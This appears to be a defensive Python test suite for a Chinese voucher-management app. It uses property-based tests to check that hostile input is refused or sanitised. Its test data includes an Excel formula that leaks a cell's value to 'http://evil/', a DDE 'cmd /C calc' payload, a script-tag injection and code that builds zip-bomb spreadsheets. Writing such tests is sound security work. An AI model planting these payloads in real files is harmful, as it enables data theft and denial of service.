"""Hostile input, by property (Hypothesis) on both databases: any string or number in any form field, the
batch import and the links gives a Chinese message or a faithful round trip — never an exception, never a
partial write. Plus the fixed reproductions: full-width codes, 1e30, NUL, control characters, formulas in
exports, and oversize sheets refused before their rows are read."""
from __future__ import annotations

import io
import re
import time
import zipfile
from datetime import timedelta
from decimal import Decimal

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook
from sqlalchemy import select

from lib import auth, db, enterprises, exports, importing, issuing, queries, validation, vouchers
from lib.errors import DomainError
from lib.models import ServiceRecord, Voucher
from lib.seed import credit_code_for
from lib.workflow import VoucherStatus as S
from tests.builders import COMMISSION, NOW, TODAY, history_count, make_batch, make_user, make_voucher, voucher_row
from tests.test_issuing import good_row, workbook
from tests.test_vouchers import own_profile

EXAMPLES = settings(max_examples=25, deadline=None, derandomize=True,
                    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow])
# Any text at all: control characters, NUL, lone surrogates, full-width forms, right-to-left marks, emoji.
ANY_TEXT = st.text(st.characters(codec=None, exclude_categories=()), max_size=60) | st.sampled_from([
    "\x00", "a\x00b", "\x01\x02", "=HYPERLINK(\"http://x\",\"点我\")", "１２３", "\u202e反向", "\ufeff", "\ud800",
    "![x](http://h/a.png)", "<script>alert(1)</script>", " " * 600, "字" * 3000, "1e30", "-0", "NaN"])
ANY_NUMBER = (st.text(max_size=30) | st.floats(allow_nan=True, allow_infinity=True) | st.integers()
              | st.decimals(allow_nan=True, allow_infinity=True) | st.sampled_from(["1e30", "１０００", "1,000.5",
                                                                                    "9" * 5000, "\x00", None]))


def refused_or_kept(call, before: int) -> object:
    """The call either succeeds or is refused with a Chinese message and writes nothing."""
    try:
        return call()
    except DomainError as exc:
        assert re.search(r"[\u4e00-\u9fff]", exc.message), exc.message
        assert history_count() == before
        return exc


FREE_TEXT = {
    "撤回原因": (S.CONFIRMED, lambda v, t: vouchers.request_withdrawal(actor=v["enterprise"], number=v["number"],
                                                                      reason=t, now=NOW),
                 lambda v: voucher_row(v["number"]).withdrawal_reason),
    "备注（确认购买）": (S.PENDING_CONFIRM,
                  lambda v, t: vouchers.confirm_purchase(actor=v["provider"], number=v["number"], remark=t, now=NOW),
                  lambda v: voucher_row(v["number"]).confirm_remark),
    "交付内容": (S.DELIVERED, lambda v, t: vouchers.record_delivery(actor=v["provider"], number=v["number"],
                                                                   delivered_on=TODAY, content=t, now=NOW),
                 lambda v: voucher_row(v["number"]).delivery_content),
    "服务描述": (S.DELIVERED, lambda v, t: vouchers.add_service_record(
        actor=v["provider"], number=v["number"], engineer_id=v["engineer_id"], service_date=TODAY, description=t,
        now=NOW), lambda v: last_record(v).description),
    "作废原因": (S.CONFIRMED, lambda v, t: vouchers.void(actor=v["commission"], number=v["number"], reason=t, now=NOW),
                 lambda v: voucher_row(v["number"]).void_reason),
}


def last_record(v: dict) -> ServiceRecord:
    with db.read_session() as s:
        return s.scalars(select(ServiceRecord).where(ServiceRecord.voucher_id == v["id"])
                         .order_by(ServiceRecord.id.desc())).first()


@pytest.mark.parametrize("field", FREE_TEXT)
@EXAMPLES
@given(text=ANY_TEXT)
def test_any_text_in_a_free_text_field_is_refused_in_chinese_or_stored_as_cleaned(database, field, text):
    status, act, stored = FREE_TEXT[field]
    v = make_voucher(status)
    result = refused_or_kept(lambda: act(v, text), history_count())
    if not isinstance(result, DomainError):
        kept = stored(v)
        assert kept == (validation.clean(text, field).strip() or None)  # a faithful round trip of what was typed
        assert not re.search(r"[\x00-\x08\x0b-\x1f\u200b-\u200f\u202a-\u202e\ufeff]", kept or "")


@EXAMPLES
@given(amount=ANY_NUMBER)
def test_any_amount_is_refused_in_chinese_or_settled_exactly(database, amount):
    v = make_voucher(S.EVALUATED)
    result = refused_or_kept(lambda: vouchers.settle(actor=COMMISSION, number=v["number"], amount=amount,
                                                     settled_on=TODAY, now=NOW), history_count())
    row = voucher_row(v["number"])
    if isinstance(result, DomainError):
        assert row.status == S.EVALUATED and row.settled_amount is None
    else:
        assert row.status == S.SETTLED and Decimal("0") < row.settled_amount <= Decimal("10000")


PROFILE_FIELDS = ["legal_rep", "address", "contact", "phone", "qq", "email", "difficulty", "remark", "founded_on",
                  "output_prev", "revenue_plan", "profit_prev", "employees", "region", "size"]


@EXAMPLES
@given(field=st.sampled_from(PROFILE_FIELDS), value=ANY_TEXT | ANY_NUMBER)
def test_any_value_in_the_profile_form_is_refused_in_chinese_or_saved(database, field, value):
    v = make_voucher(S.ACTIVATED)
    refused_or_kept(lambda: enterprises.update_profile(actor=v["enterprise"], data=own_profile(v, **{field: value}),
                                                       now=NOW), history_count())


@EXAMPLES
@given(username=ANY_TEXT, password=ANY_TEXT)
def test_any_login_is_refused_in_chinese(database, username, password):
    with pytest.raises(DomainError) as err:
        auth.verify_login(username, password, client="192.0.2.1", now=NOW)
    assert re.search(r"[\u4e00-\u9fff]", err.value.message)


@EXAMPLES
@given(number=ANY_TEXT, name=ANY_TEXT)
def test_any_link_or_search_is_answered_never_an_error_page(database, number, name):
    v = make_voucher(S.CONFIRMED)
    parsed = validation.voucher_number(number)
    assert parsed is None or parsed.isascii() and parsed.isdigit()
    if parsed is not None:
        try:
            queries.voucher_detail(v["provider"], parsed)
        except DomainError:
            pass
    page = queries.voucher_page(COMMISSION, queries.VoucherFilters(number=number, enterprise_name=name))
    assert page.total >= 0


@EXAMPLES
@given(cells=st.lists(ANY_TEXT | st.integers() | st.floats(allow_nan=False) | st.none(), min_size=9, max_size=9))
def test_any_row_in_the_batch_file_is_refused_per_row_or_issued_whole(database, cells):
    make_batch(2026)
    cells = [c.replace("\x00", "") if isinstance(c, str) else c for c in cells]  # Excel cannot hold NUL
    cells = [re.sub(r"[\x01-\x08\x0b\x0c\x0e-\x1f\ud800-\udfff]", "", c) if isinstance(c, str) else c for c in cells]
    before = history_count()
    preview = importing.read_import(workbook([good_row(1), cells]), batch_year=2026)
    assert preview.file_error is None
    if preview.errors:
        assert all(re.search(r"[\u4e00-\u9fff]", e.message) for e in preview.errors)
        assert history_count() == before
    else:
        issuing.issue_batch(actor=COMMISSION, preview=preview, batch_year=2026, now=NOW)


# ---------------------------------------------------------------- the reproductions of the review

@pytest.mark.parametrize("typed", ["９１３２００００１３４７６３３９１Ｘ", "９１３２００００１３４７６３３９１ｘ",
                                   "\u200b91320000134763391X\u200b", " 91320000134763391X\n"])
def test_full_width_and_invisible_characters_in_a_credit_code_are_understood(typed):
    assert validation.credit_code(typed) == "91320000134763391X"


@pytest.mark.parametrize("typed", ["٩١٣٢٠٠٠٠١٣٤٧٦٣٣٩١X", "913200001347633９1\x00", "\x00"])
def test_other_digits_and_nul_in_a_credit_code_get_a_chinese_message(typed):
    with pytest.raises(DomainError) as err:
        validation.credit_code(typed)
    assert err.value.message.startswith("统一社会信用代码：")


@pytest.mark.parametrize("amount,message", [("1e30", "兑付金额：不能超过10000.00"),
                                            ("1E+400", "兑付金额：不能超过10000.00")])
def test_an_absurd_amount_gets_its_range(database, amount, message):
    v = make_voucher(S.EVALUATED)
    with pytest.raises(DomainError) as err:
        vouchers.settle(actor=COMMISSION, number=v["number"], amount=amount, settled_on=TODAY, now=NOW)
    assert err.value.message == message


def test_every_amount_field_has_a_range():
    for value in ("1e30", "1000000000000"):
        with pytest.raises(DomainError, match="不能超过999999999999.99"):
            validation.money(value, "2025年营业收入")


def test_nul_in_a_link_a_login_or_a_search_is_answered_in_chinese(database):
    make_user("officer1", password="Passw0rd!")
    assert validation.voucher_number("%00") is None and validation.voucher_number("\x00") is None
    with pytest.raises(DomainError, match="账户名或密码错误"):
        auth.verify_login("officer1\x00", "x", now=NOW)
    assert auth.verify_login("ｏｆｆｉｃｅｒ１", "Passw0rd!", now=NOW).username == "officer1"  # 全角 folded
    assert queries.voucher_page(COMMISSION, queries.VoucherFilters(enterprise_name="\x00测试")).total == 0
    v = make_voucher(S.CONFIRMED, contract=True)
    with pytest.raises(DomainError, match="含有不允许的字符"), db.transaction() as s:  # and behind every check
        s.add(ServiceRecord(voucher_id=v["id"], engineer_id=v["engineer_id"], service_date=TODAY, description="a\x00b",
                            created_at=NOW))


def test_exports_write_no_formula_and_survive_control_characters(database):
    hostile = ["=HYPERLINK(\"http://evil/\"&B2,\"点我\")", "+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\t=1", "\r=1",
               "坏\x01字符\x1f", "正常文本"]
    frame = __import__("pandas").DataFrame({"a": hostile, "b": range(len(hostile))})
    content = exports.to_excel(frame, {"a": "企业名称", "b": "序号"}, title="=标题", filters={"企业名称": "=1+1"})
    sheet = load_workbook(io.BytesIO(content)).active
    cells = [c for row in sheet.iter_rows() for c in row if c.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    texts = [sheet.cell(row=r, column=1).value for r in range(6, 6 + len(hostile))]
    # the characters typed, not their results (XML keeps a carriage return as a line feed)
    assert texts == [*hostile[:5], "\n=1", "坏字符", "正常文本"]


def test_the_batch_result_file_with_one_time_passwords_has_no_formula(database):
    make_batch(2026)
    row = good_row(1)
    row[1] = "@SUM(1+1)*cmd|' /C calc'!A0企业"
    preview = importing.read_import(workbook([row]), batch_year=2026)
    results = issuing.issue_batch(actor=COMMISSION, preview=preview, batch_year=2026, now=NOW)
    sheet = load_workbook(io.BytesIO(issuing.result_excel(results, 2026))).active
    assert not [c.coordinate for r in sheet.iter_rows() for c in r if c.data_type == "f"]
    assert any(c.value == row[1] for r in sheet.iter_rows() for c in r)


def test_a_voucher_export_with_control_characters_in_stored_text_still_opens(database):
    v = make_voucher(S.CONFIRMED)
    with db.transaction() as s:  # stored before the cleaning on the way in existed
        s.get(Voucher, v["id"]).enterprise.name = "坏\x01名字=1"
    rows = queries.voucher_export_rows(COMMISSION, queries.VoucherFilters())
    sheet = load_workbook(io.BytesIO(exports.to_excel(rows, queries.VOUCHER_EXPORT_COLUMNS, title="服务券列表"))).active
    assert any(c.value == "坏名字=1" for r in sheet.iter_rows() for c in r)


# ---------------------------------------------------------------- oversize sheets

def _declaring(rows: int) -> bytes:
    """A small file whose sheet declares `rows` rows (as a crafted or a huge file does)."""
    source = zipfile.ZipFile(io.BytesIO(workbook([good_row(1)])))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for item in source.infolist():
            data = source.read(item.filename)
            if item.filename == "xl/worksheets/sheet1.xml":
                data = re.sub(rb'<dimension ref="[^"]+" ?/>', f'<dimension ref="A1:I{rows}"/>'.encode(), data)
            target.writestr(item, data)
    return out.getvalue()


def _bomb(rows: int) -> bytes:
    """A sheet with `rows` real rows and no declared size: tiny compressed, huge expanded."""
    source = zipfile.ZipFile(io.BytesIO(workbook([good_row(1)])))
    body = b"".join(b'<row r="%d"><c r="A%d" t="inlineStr"><is><t>x</t></is></c></row>' % (i, i)
                    for i in range(2, rows + 2))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for item in source.infolist():
            data = source.read(item.filename)
            if item.filename == "xl/worksheets/sheet1.xml":
                data = re.sub(rb'<dimension ref="[^"]+" ?/>', b"", data)
                data = data.replace(b"</sheetData>", body + b"</sheetData>")
            target.writestr(item, data)
    return out.getvalue()


def test_a_sheet_that_declares_a_million_rows_is_refused_before_any_row_is_read(database):
    make_batch(2026)
    started = time.perf_counter()
    preview = importing.read_import(_declaring(1_000_000), batch_year=2026)
    assert preview.file_error == "文件共有约999999行，文件行数超过每次最多5000行的限制，请拆分后分批导入。"
    assert time.perf_counter() - started < 5  # generous: it reads one element, not a million rows


def test_a_sheet_without_a_declared_size_is_cut_off_as_it_streams(database):
    make_batch(2026)
    content = _bomb(200_000)
    assert len(content) < 1_500_000  # ~1 MB that expands to 200,000 rows
    preview = importing.read_import(content, batch_year=2026)
    assert preview.file_error == "文件行数超过每次最多5000行的限制，请拆分后分批导入。"


def test_a_file_that_expands_far_beyond_5000_rows_is_refused_before_openpyxl_reads_it(database):
    make_batch(2026)
    source = zipfile.ZipFile(io.BytesIO(workbook([good_row(1)])))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for item in source.infolist():
            data = source.read(item.filename)
            if item.filename == "xl/worksheets/sheet1.xml":  # 30 MB of harmless whitespace, ~30 KB zipped
                data = data.replace(b"<sheetData>", b"<sheetData>" + b" " * 30 * 1024 * 1024)
            target.writestr(item, data)
    content = out.getvalue()
    assert len(content) < 200_000
    started = time.perf_counter()
    preview = importing.read_import(content, batch_year=2026)
    assert preview.file_error == "文件展开后约30MB，远超5000行数据的大小，请拆分后分批导入。"
    assert time.perf_counter() - started < 5


def test_the_upload_size_is_capped_in_the_server_config():
    import tomllib

    from lib import config
    settings_ = tomllib.loads((config.ROOT / ".streamlit" / "config.toml").read_text())
    assert settings_["server"]["maxUploadSize"] == 5


def test_an_unlabelled_day_is_still_a_date():  # keep the date path honest under folding
    assert validation.past_date("２０２６－１１－２０", "日期", today=TODAY) == TODAY
    assert validation.past_date("2026-11-20", "日期", today=TODAY + timedelta(days=1)) == TODAY
    _ = credit_code_for, Workbook


@EXAMPLES
@given(data=st.data())
def test_a_damaged_excel_file_is_refused_in_chinese_never_an_error_page(database, data):
    make_batch(2026)
    content = bytearray(workbook([good_row(1), good_row(2)]))
    for _ in range(data.draw(st.integers(1, 20))):  # flip bytes anywhere: headers, compressed XML, the directory
        # the position is drawn independently of the file's length: a zipped workbook's size varies with its
        # timestamp by a byte, and Hypothesis needs the same draws on a replay
        content[data.draw(st.integers(0, 2**20)) % len(content)] = data.draw(st.integers(0, 255))
    preview = importing.read_import(bytes(content), batch_year=2026)
    assert preview.file_error or preview.errors or preview.rows


# ---------------------------------------------------------------- the other forms, field by field

def _product_form(v: dict, field: str, value: object):
    from lib import products
    from tests.builders import provider_actor
    data = {"name": "云ERP", "category": "中小版管理软件应用", "price": "9800", "target": "制造业",
            "problems": "进销存", "cases": "", field: value}
    return products.create_product(actor=provider_actor(v["provider_id"]), data=data, now=NOW)


def _engineer_form(v: dict, field: str, value: object):
    from lib import engineers
    from tests.builders import provider_actor
    data = {"name": "李工", "mobile": "13912345678", "title": "实施", field: value}
    return engineers.add_engineer(actor=provider_actor(v["provider_id"]), data=data, now=NOW)


def _provider_form(v: dict, field: str, value: object):
    from lib import providers
    data = {"name": "南京新服务商", "credit_code": credit_code_for(880001), "phone": "025-84567890", "fax": "",
            "contact": "王经理", "address": "", "website": "", field: value}
    return providers.create_provider(actor=COMMISSION, data=data, now=NOW)


def _issue_form(v: dict, field: str, value: object):
    make_batch(2026)
    data = {"credit_code": credit_code_for(990001), "name": "南京新企业", "region": "江宁区", field: value}
    return issuing.issue_single(actor=COMMISSION, data=data, batch_year=2026, now=NOW)


def _evaluation_form(v: dict, field: str, value: object):
    from tests.test_vouchers import evaluation_args
    w = make_voucher(S.DELIVERED)
    args = evaluation_args()
    if field == "comment":
        args["comment"] = value
    else:
        args["scores"] = {**args["scores"], field: value}
    return vouchers.evaluate(actor=w["enterprise"], number=w["number"], now=NOW, **args)


def _extend_form(v: dict, field: str, value: object):
    w = make_voucher(S.EXPIRED)
    data = {"days": 10, "reason": "企业申请", field: value}
    return vouchers.extend(actor=COMMISSION, number=w["number"], days=data["days"], reason=data["reason"], now=NOW)


FORMS = {
    "产品": (_product_form, ["name", "category", "price", "target", "problems", "cases"]),
    "人员": (_engineer_form, ["name", "mobile", "title"]),
    "服务商": (_provider_form, ["name", "credit_code", "phone", "fax", "contact", "address", "website"]),
    "发放": (_issue_form, ["credit_code", "name", "region", "size", "legal_rep", "address", "contact", "phone",
                           "email"]),
    "服务评价": (_evaluation_form, ["s_attitude", "s_quality", "comment"]),
    "延期": (_extend_form, ["days", "reason"]),
}


@pytest.mark.parametrize("form", FORMS)
@EXAMPLES
@given(data=st.data())
def test_any_value_in_any_other_form_is_refused_in_chinese_or_saved(database, form, data):
    fill, fields = FORMS[form]
    v = make_voucher(S.CONFIRMED)
    field = data.draw(st.sampled_from(fields))
    value = data.draw(ANY_TEXT | ANY_NUMBER)
    refused_or_kept(lambda: fill(v, field, value), history_count())


def test_what_hypothesis_found_stays_fixed(database):
    # a number where 企业规模 expects text crashed issuing; an infinite score crashed the evaluation;
    # spaces as 兑付金额 crashed settlement (blank means the face value)
    with pytest.raises(DomainError, match="企业规模：选项无效"):
        _issue_form({}, "size", 1.0)
    with pytest.raises(DomainError, match="请输入整数分"):
        _evaluation_form({}, "s_attitude", Decimal("Infinity"))
    v = make_voucher(S.EVALUATED)
    vouchers.settle(actor=COMMISSION, number=v["number"], amount="   ", settled_on=TODAY, now=NOW)
    assert voucher_row(v["number"]).settled_amount == Decimal("10000.00")


# ---------------------------------------------------------------- Excel out (issue 12): typed, wide enough, filtered

def test_exports_hold_real_dates_and_numbers_that_pandas_reads_with_one_header_value(database):
    import pandas as pd
    v = make_voucher(S.SETTLED)
    rows = queries.voucher_export_rows(COMMISSION, queries.VoucherFilters(number=v["number"]))
    content = exports.to_excel(rows, queries.VOUCHER_EXPORT_COLUMNS, title="服务券列表")
    table = pd.read_excel(io.BytesIO(content), header=exports.HEADER_ROW - 1)
    assert list(table.columns) == list(queries.VOUCHER_EXPORT_COLUMNS.values())
    kinds = {name: str(kind) for name, kind in table.dtypes.items()}
    dated = [name for name, kind in kinds.items() if kind.startswith("datetime64")]
    assert dated, kinds  # 发券时间 and the other dates are dates, not text
    sheet = load_workbook(io.BytesIO(content)).active
    assert sheet.freeze_panes == "A6" and sheet.auto_filter.ref.startswith("A5:")
    for cell in sheet[6]:
        if isinstance(cell.value, float):
            assert cell.number_format == "#,##0.00"


def test_column_widths_fit_the_content_counting_a_chinese_character_as_two():
    import pandas as pd
    name = "南京示范精密机械制造股份有限公司江宁分公司"  # 21 characters, 42 columns wide
    content = exports.to_excel(pd.DataFrame({"n": [name], "k": [1]}), {"n": "企业名称", "k": "数量"}, title="t")
    sheet = load_workbook(io.BytesIO(content)).active
    assert sheet.column_dimensions["A"].width >= 42 and sheet.column_dimensions["B"].width < 10
